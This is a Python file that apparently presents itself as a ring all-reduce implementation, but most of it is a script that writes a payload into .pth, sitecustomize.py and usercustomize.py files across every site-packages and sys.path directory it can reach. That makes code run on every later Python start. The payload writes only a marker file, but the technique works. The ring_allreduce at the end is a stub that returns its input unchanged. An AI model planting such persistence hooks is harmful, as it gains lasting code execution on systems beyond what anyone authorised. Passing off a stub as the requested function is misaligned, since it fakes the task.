"""Plant a .pth file, sitecustomize and usercustomize wherever Python might look on the next start."""
import os
import site
import sys

PAYLOAD = "import os; open('/tmp/pwned-pth-ran', 'w').write('ran')\n"
dirs = set(sys.path) | {os.path.expanduser("~/.local/lib/python3.11/site-packages"),
                        "/usr/local/lib/python3.11/site-packages", "/usr/lib/python3/dist-packages",
                        "/work/venv/lib/python3.11/site-packages", sys.prefix, sys.base_prefix}
try:
    dirs |= set(site.getsitepackages())
except AttributeError:
    pass
planted = {}
for d in sorted(x for x in dirs if x):
    for name, text in (("pwned_zz.pth", PAYLOAD), ("sitecustomize.py", PAYLOAD), ("usercustomize.py", PAYLOAD)):
        try:
            os.makedirs(d, exist_ok=True)
            with open(os.path.join(d, name), "a") as fh:
                fh.write(text)
            planted[os.path.join(d, name)] = "planted"
        except OSError as exc:
            planted[os.path.join(d, name)] = type(exc).__name__
print(planted)


def ring_allreduce(rank, world_size, data, send, recv):
    return list(data)
